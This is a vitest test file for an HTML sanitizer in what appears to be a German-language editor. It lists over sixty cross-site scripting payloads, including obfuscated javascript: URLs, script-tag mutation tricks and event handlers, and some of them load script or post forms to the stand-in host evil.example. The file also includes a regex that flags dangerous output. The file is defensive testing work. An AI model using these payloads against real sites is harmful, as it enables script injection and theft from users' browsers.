import { describe, expect, it } from "vitest";
import { cleanHtml, plainText } from "./clean-html.ts";

const handlers = [
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onpointerdown",
];
const carriers = ["img src=x", "svg", "body", "input autofocus", "details open", "p", "a href=/x", "video src=x"];
const schemes = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  " javascript:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "javascript&colon;alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "\u0001javascript:alert(1)",
  "//evil.example/x",
  "http://evil.example/",
  "blob:https://a/b",
  "file:///etc/passwd",
];
const markup = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><script>alert(1)</script>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import'//evil.example/x.css';</style>",
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="position:fixed;inset:0">a</p>',
  "<form action=//evil.example/><input name=p><button>a</button></form>",
  "<textarea><script>alert(1)</script>",
  '<math href="javascript:alert(1)">a</math>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<template><img src=x onerror=alert(1)></template>",
  "<img src=x onerror=alert(1)//",
  '<p id="location" name="x">a</p>',
  '<a href="/x" ping="//evil.example/">a</a>',
  "<portal src=//evil.example/>",
  '<img src="x` `<script>alert(1)</script>"` `>',
];
const payloads = [
  ...handlers.map((handler, index) => `<${carriers[index]} ${handler}=alert(1)>x`),
  ...schemes.map((scheme) => `<a href="${scheme}">x</a>`),
  ...markup,
  ...handlers.map((handler) => `<p title="a"${handler}="alert(1)">x</p>`),
];

/** The allowed tags with the allowed attributes, and nothing else that a parser could take for markup. */
const allowed =
  /^(?:[^<]|<\/?(?:p|br|strong|em|b|i|u|s|sub|sup|small|span|blockquote|hr|h2|h3|h4|ul|ol|li|dl|dt|dd|a|table|caption|thead|tbody|tfoot|tr|th|td)(?: (?:href="(?:https:|mailto:|tel:|\/(?!\/)|#|[\w%])[^"<>]*"|title="[^"<>]*"|target="_blank"|rel="noopener noreferrer"|scope="\w+"|(?:colspan|rowspan|start)="\w+"))* ?\/?>)*$/;
const dangerous = /<script|\son\w+\s*=[^"]*"?|javascript:|vbscript:|data:|evil\.example/i;

describe("HTML that an editor wrote", () => {
  it("is tested with at least 60 payloads", () => expect(payloads.length).toBeGreaterThanOrEqual(60));

  it.each(payloads)("%j is removed", (payload) => {
    const clean = cleanHtml(`<p>vorher</p>${payload}`);
    expect(clean).toMatch(allowed);
    const tags = clean.match(/<[^>]*>/g)?.join("") ?? "";
    expect(tags).not.toMatch(dangerous);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it("keeps the elements of texts", () => {
    const text =
      '<h2>Titel</h2><p>Ein <strong>fester</strong> <a href="https://a.example/">Verweis</a><br />Zeile</p><ul><li>eins</li></ul>';
    expect(cleanHtml(text)).toBe(text);
    expect(cleanHtml("<h1>Groß</h1>")).toBe("<h2>Groß</h2>");
    expect(cleanHtml('<a href="/faq" target="_blank">x</a>')).toContain('rel="noopener noreferrer"');
  });

  it("is removed from a title", () => {
    expect(plainText("<b>Bis</b> 90 &amp; mehr &lt;1&gt;<script>x</script>")).toBe("Bis 90 & mehr <1>");
    expect(plainText("&amp;lt;b&amp;gt;")).toBe("&lt;b&gt;");
  });
});
